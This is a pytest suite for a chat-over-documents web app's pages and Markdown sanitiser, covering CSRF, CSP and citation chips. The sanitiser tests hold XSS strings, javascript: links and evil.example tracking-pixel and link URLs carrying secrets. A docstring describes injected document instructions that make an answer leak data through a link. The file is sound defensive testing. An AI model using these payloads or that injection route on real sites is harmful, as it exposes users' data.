"""The HTML pages (causerie.web.pages) and the answer renderer (causerie.web.markdown), in
process: sign-in redirects, rendering, forms with CSRF, the sources table, the chat history
with citation chips, French and English, the CSP, and the Markdown sanitiser."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi.testclient import TestClient
from web_helpers import Actor, new_notebook, upload

from causerie.providers.fake import FakeProvider
from causerie.web.markdown import render_answer, render_answer_json, sanitise

SAMPLES = Path(__file__).resolve().parents[2] / "src" / "causerie" / "samples"
SUNDAY_ANSWER = "On Sundays the library opens from **10:00 to 14:00** [1]."


# --------------------------------------------------------------------------- helpers
# (fixtures `app`, `client` (signed out), `fake`, `alice`, `make_actor`: tests/web/conftest.py)


def get(actor: Actor, path: str, **kwargs: Any) -> httpx.Response:
    return actor.browser.get(path, follow_redirects=False, **kwargs)


def post_form(actor: Actor, path: str, data: dict[str, str]) -> httpx.Response:
    return actor.browser.post(path, data=data, follow_redirects=False)


def _form_token(html: str) -> str:
    match = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert match, "no CSRF field in the page"
    return match.group(1)


def _upload_samples(actor: Actor, notebook_id: str, *names: str) -> dict[str, Any]:
    return upload(actor, notebook_id, *((n, (SAMPLES / n).read_bytes()) for n in names))


def _ask(actor: Actor, notebook_id: str, question: str) -> dict[str, Any]:
    response = actor.api("POST", f"/api/notebooks/{notebook_id}/chat", json={"question": question})
    assert response.status_code == 200, response.text
    answer: dict[str, Any] = response.json()
    return answer


class _Scripts(HTMLParser):
    """Collects <script> tags and inline event handler attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.scripts: list[dict[str, str | None]] = []
        self.handlers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script":
            self.scripts.append(dict(attrs))
        self.handlers += [name for name, _ in attrs if name.startswith("on")]


# --------------------------------------------------------------------------- sign-in


@pytest.mark.parametrize(
    "path", ["/", "/notebooks/abc/sources", "/notebooks/abc/chat", "/notebooks/abc/chat/xyz"]
)
def test_pages_redirect_to_login_when_signed_out(client: TestClient, path: str) -> None:
    response = client.get(path, follow_redirects=False)
    assert response.status_code == 303
    assert response.headers["location"] == f"/login?next={path}"


def test_page_forms_and_fragments_refuse_the_signed_out(client: TestClient) -> None:
    response = client.post("/notebooks", data={"name": "x"}, follow_redirects=False)
    assert response.status_code == 303
    assert response.headers["location"].startswith("/login")
    assert client.get("/notebooks/abc/sources/table").status_code == 401


# --------------------------------------------------------------------------- notebooks


def test_notebooks_page_creates_renames_and_deletes(alice: Actor) -> None:
    page = get(alice, "/")
    assert page.status_code == 200
    assert 'name="viewport"' in page.text
    assert "No notebook yet" in page.text
    token = _form_token(page.text)

    made = post_form(alice, "/notebooks", {"name": "  Field   notes ", "csrf_token": token})
    assert made.status_code == 303
    notebook_id = made.headers["location"].split("/")[2]
    assert made.headers["location"] == f"/notebooks/{notebook_id}/sources"
    assert "Field notes" in get(alice, "/").text

    renamed = post_form(
        alice, f"/notebooks/{notebook_id}/rename", {"name": "Lyon 2025", "csrf_token": token}
    )
    assert renamed.status_code == 303
    listing = get(alice, "/").text
    assert "Lyon 2025" in listing and "Field notes" not in listing

    deleted = post_form(alice, f"/notebooks/{notebook_id}/delete", {"csrf_token": token})
    assert deleted.status_code == 303
    assert "Lyon 2025" not in get(alice, "/").text


def test_notebook_forms_need_the_csrf_token(alice: Actor) -> None:
    refused = post_form(alice, "/notebooks", {"name": "Sneaky"})
    assert refused.status_code == 403
    assert "text/html" in refused.headers["content-type"]
    assert "Sneaky" not in get(alice, "/").text
    assert post_form(alice, "/notebooks", {"name": "Sneaky", "csrf_token": "x"}).status_code == 403


def test_rename_to_a_taken_name_says_so(alice: Actor) -> None:
    first = new_notebook(alice, "One")
    new_notebook(alice, "Two")
    token = _form_token(get(alice, "/").text)
    response = post_form(alice, f"/notebooks/{first}/rename", {"name": "Two", "csrf_token": token})
    assert response.headers["location"] == "/?error=taken"
    assert "already has this name" in get(alice, "/?error=taken").text


def test_another_users_notebook_is_not_found(alice: Actor, make_actor: Any) -> None:
    notebook_id = new_notebook(alice, "Private")
    bob = make_actor("bob")
    assert "Private" not in get(bob, "/").text
    for path in (
        f"/notebooks/{notebook_id}/sources",
        f"/notebooks/{notebook_id}/chat",
        f"/notebooks/{notebook_id}/sources/table",
    ):
        response = get(bob, path)
        assert response.status_code == 404, path
    page = get(bob, f"/notebooks/{notebook_id}/chat")
    assert "text/html" in page.headers["content-type"]
    token = _form_token(get(bob, "/").text)
    gone = post_form(bob, f"/notebooks/{notebook_id}/delete", {"csrf_token": token})
    assert gone.status_code == 404
    assert "Private" in get(alice, "/").text


# --------------------------------------------------------------------------- sources


def test_sources_page_has_a_drop_zone_a_file_input_and_a_url_form(alice: Actor) -> None:
    notebook_id = new_notebook(alice, "Valmont")
    page = get(alice, f"/notebooks/{notebook_id}/sources")
    assert page.status_code == 200
    html = page.text
    assert 'id="upload-form" class="dropzone"' in html
    assert '<label for="files">' in html
    assert '<input id="files" name="files" type="file" multiple' in html
    assert 'type="url"' in html and '<label for="url">' in html
    assert "No source yet" in html


def test_sources_table_lists_ready_sources_and_refused_inputs(alice: Actor) -> None:
    notebook_id = new_notebook(alice, "Valmont")
    job = _upload_samples(alice, notebook_id, "valmont-library.md")
    assert job["errors"] == 0, job
    refused = upload(alice, notebook_id, ("notes.xyz", b"what is this"))
    assert refused["errors"] == 1

    table = get(alice, f"/notebooks/{notebook_id}/sources/table")
    assert table.status_code == 200
    assert table.text.count('class="status ready"') == 1
    assert "Valmont Town Library" in table.text
    assert 'class="status error"' in table.text and "notes.xyz" in table.text
    assert "not supported" in table.text
    assert table.text.count("delete-source") == 1  # a refused input has nothing to delete
    assert "Valmont Town Library" in get(alice, f"/notebooks/{notebook_id}/sources").text


# --------------------------------------------------------------------------- chat


def test_chat_page_renders_history_with_citation_chips(alice: Actor, fake: FakeProvider) -> None:
    notebook_id = new_notebook(alice, "Valmont")
    _upload_samples(alice, notebook_id, "valmont-library.md")
    empty = get(alice, f"/notebooks/{notebook_id}/chat")
    assert empty.status_code == 200
    assert 'id="question"' in empty.text and 'id="stop"' in empty.text
    assert '<dialog id="passage"' in empty.text
    assert "No conversation yet" in empty.text

    fake.enqueue(SUNDAY_ANSWER)
    answer = _ask(alice, notebook_id, "When does the library open on Sundays?")
    assert answer["citations"], answer

    page = get(alice, f"/notebooks/{notebook_id}/chat/{answer['conversation_id']}")
    assert page.status_code == 200
    html = page.text
    assert "When does the library open on Sundays?" in html
    assert "<strong>10:00 to 14:00</strong>" in html
    assert '<button type="button" class="cite" data-marker="1"' in html
    assert 'aria-current="page">When does the library open on Sundays?</a>' in html
    citations = re.search(r"data-citations='([^']*)'", html)
    assert citations
    data = json.loads(citations.group(1).replace("&#34;", '"').replace("&amp;", "&"))
    assert data[0]["marker"] == 1 and data[0]["chunk_id"]
    assert "Sundays" in data[0]["label"]


def test_conversation_of_another_notebook_is_not_found(alice: Actor, fake: FakeProvider) -> None:
    first = new_notebook(alice, "First")
    second = new_notebook(alice, "Second")
    _upload_samples(alice, first, "valmont-library.md")
    fake.enqueue(SUNDAY_ANSWER)
    answer = _ask(alice, first, "When does the library open on Sundays?")
    assert get(alice, f"/notebooks/{second}/chat/{answer['conversation_id']}").status_code == 404
    assert get(alice, f"/notebooks/{first}/chat/nope").status_code == 404


def test_streamed_answer_event_carries_sanitised_html(alice: Actor, fake: FakeProvider) -> None:
    notebook_id = new_notebook(alice, "Valmont")
    _upload_samples(alice, notebook_id, "valmont-library.md")
    fake.enqueue(SUNDAY_ANSWER + " <img src=https://evil.example/x.png>")
    with alice.browser.stream(
        "POST",
        f"/api/notebooks/{notebook_id}/chat",
        json={"question": "When does the library open on Sundays?"},
        headers={"X-CSRF-Token": alice.csrf, "Accept": "text/event-stream"},
    ) as response:
        body = "".join(response.iter_text())
    blocks = [b for b in body.split("\n\n") if b.startswith("event: answer")]
    assert blocks, body
    answer = json.loads(blocks[0].split("data: ", 1)[1])
    assert '<button type="button" class="cite" data-marker="1"' in answer["html"]
    assert "<strong>10:00 to 14:00</strong>" in answer["html"]
    assert "<img" not in answer["html"]


# --------------------------------------------------------------------------- languages


def test_language_follows_the_browser_then_the_cookie(alice: Actor) -> None:
    french = get(alice, "/", headers={"Accept-Language": "fr-FR,fr;q=0.9,en;q=0.5"})
    assert '<html lang="fr">' in french.text
    assert "Vos carnets" in french.text and "Nouveau carnet" in french.text
    assert get(alice, "/lang?code=en&next=/").status_code == 303
    english = get(alice, "/", headers={"Accept-Language": "fr-FR,fr;q=0.9"})
    assert '<html lang="en">' in english.text and "Your notebooks" in english.text


def test_script_messages_are_translated(alice: Actor) -> None:
    notebook_id = new_notebook(alice, "Valmont")
    page = get(alice, f"/notebooks/{notebook_id}/chat", headers={"Accept-Language": "fr"})
    block = re.search(
        r'<script type="application/json" id="page-messages">(.*?)</script>', page.text, re.S
    )
    assert block
    messages = json.loads(block.group(1))
    assert messages["chat.stopped"] == "Arrêté."
    assert messages["chat.cite_label"] == "Ouvrir la source {n}"


def test_every_page_message_exists_in_both_languages() -> None:
    from causerie.web import i18n
    from causerie.web.page_kit import SCRIPT_MESSAGES

    templates = Path(__file__).resolve().parents[2] / "src" / "causerie" / "web" / "templates"
    used = set(SCRIPT_MESSAGES)
    for name in ("notebooks", "sources", "chat", "_sources_table", "_notebook_header"):
        text = (templates / f"{name}.html").read_text()
        used |= set(re.findall(r"""t\(["']([a-z_]+\.[a-z_]*[a-z])["']""", text))
    for language in ("en", "fr"):
        missing = sorted(k for k in used if k not in i18n.MESSAGES[language])
        assert not missing, (language, missing)


def test_sources_page_hands_its_script_the_stop_strings(alice: Actor) -> None:
    """Every message sources.js asks for is in the page's data block, in French too (the
    Stop button and its cancelled states)."""
    script = (Path(__file__).resolve().parents[2] / "src" / "causerie" / "web" / "static"
              / "js" / "sources.js").read_text()  # fmt: skip
    wanted = set(re.findall(r"""msg\(\s*["']([a-z_]+\.[a-z_]+)["']""", script))
    assert {"sources.stop", "sources.stop_named", "status.cancelled"} <= wanted
    notebook_id = new_notebook(alice, "Valmont")
    page = get(alice, f"/notebooks/{notebook_id}/sources", headers={"Accept-Language": "fr"})
    block = re.search(
        r'<script type="application/json" id="page-messages">(.*?)</script>', page.text, re.S
    )
    assert block
    messages = json.loads(block.group(1))
    assert sorted(wanted - set(messages)) == []
    assert messages["sources.stop"] == "Arrêter"
    assert messages["sources.stop_named"] == "Arrêter l'ajout de {names}"
    assert messages["status.cancelled"] == "arrêtée"


# --------------------------------------------------------------------------- security


def test_pages_send_the_csp_and_run_no_inline_script(alice: Actor) -> None:
    notebook_id = new_notebook(alice, "Valmont")
    for path in ("/", f"/notebooks/{notebook_id}/sources", f"/notebooks/{notebook_id}/chat"):
        response = get(alice, path)
        csp = response.headers["content-security-policy"]
        assert "script-src 'self'" in csp and "unsafe-inline" not in csp
        assert response.headers["x-content-type-options"] == "nosniff"
        parser = _Scripts()
        parser.feed(response.text)
        assert parser.handlers == [], path
        assert 'style="' not in response.text, path  # style-src 'self': no inline styles
        for script in parser.scripts:
            assert script.get("src") or script.get("type") == "application/json", (path, script)


def test_static_assets_are_served(client: TestClient) -> None:
    for path in ("/static/app.css", "/static/js/chat.js", "/static/js/sources.js"):
        assert client.get(path).status_code == 200, path


# --------------------------------------------------------------------------- the sanitiser


def test_script_tags_and_raw_html_are_escaped() -> None:
    html = render_answer("Hi <script>alert(1)</script> <b onclick='x()'>bold</b>\n\n<div>x</div>")
    assert "<script" not in html and "<b" not in html and "<div" not in html
    assert "&lt;script&gt;" in html
    assert "onclick" not in sanitise('<p onclick="x()">a</p>')
    assert "alert" not in sanitise("<p>a<script>alert(1)</script></p>")


@pytest.mark.parametrize(
    "link",
    [
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](vbscript:msgbox(1))",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        "<javascript:alert(1)>",
        "[click](/logout)",
        "[click](//evil.example/x)",
    ],
)
def test_unsafe_and_relative_links_lose_their_target(link: str) -> None:
    html = render_answer(link)
    assert "href" not in html  # at most inert text remains


def test_links_are_text_showing_their_whole_destination() -> None:
    """Issue 11, item 8: a link built from a document's injected instructions could carry
    data out with one click; it is shown as text with its destination, never as a link."""
    html = render_answer(
        "See [the docs](https://evil.example/c?q=secret%20code) [1] and <mailto:me@example.org>",
        markers=[1],
    )
    assert "<a" not in html and "href" not in html
    target = '<span class="link-target">&lt;https://evil.example/c?q=secret%20code&gt;</span>'
    assert f"the docs {target}" in html
    assert "mailto:me@example.org" in html
    assert 'data-marker="1"' in html


@pytest.mark.parametrize(
    "text",
    [
        "![tracker](https://evil.example/pixel.png?secret=1)",
        '<img src="https://evil.example/p.png">',
        "![x](data:image/png;base64,AAAA)",
    ],
)
def test_no_image_is_ever_rendered(text: str) -> None:
    assert "<img" not in render_answer(text)
    assert "<img" not in sanitise('<img src="https://evil.example/p.png">')


def test_citation_markers_become_chips_only_for_checked_markers() -> None:
    html = render_answer("Open at 10 [1], closed on Mondays [2]. See `[1]`.", markers=[1])
    assert html.count('class="cite"') == 1
    assert 'data-marker="1"' in html and "[2]" in html
    assert "<code>[1]</code>" in html  # not inside code spans


def test_citation_chip_label_is_escaped() -> None:
    html = render_answer("x [3]", cite_label='"><script>alert(1)</script> {n}')
    assert "<script" not in html
    assert 'data-marker="3"' in html


def test_render_answer_json_uses_the_answers_citations() -> None:
    payload = {"answer": "A [1] B [2]", "citations": [{"marker": 2}]}
    html = render_answer_json(payload)
    assert 'data-marker="2"' in html and 'data-marker="1"' not in html


def test_sanitiser_drops_foreign_attributes_on_allowed_tags() -> None:
    html = sanitise(
        '<button class="cite evil" data-marker="1" onclick="x()" formaction="/x">1</button>'
        '<a href="https://ok.example" style="color:red" target="_self">a</a>'
    )
    assert "onclick" not in html and "formaction" not in html and "evil" not in html
    assert "style" not in html
    assert "<a" not in html  # no link at all (issue 11, item 8)
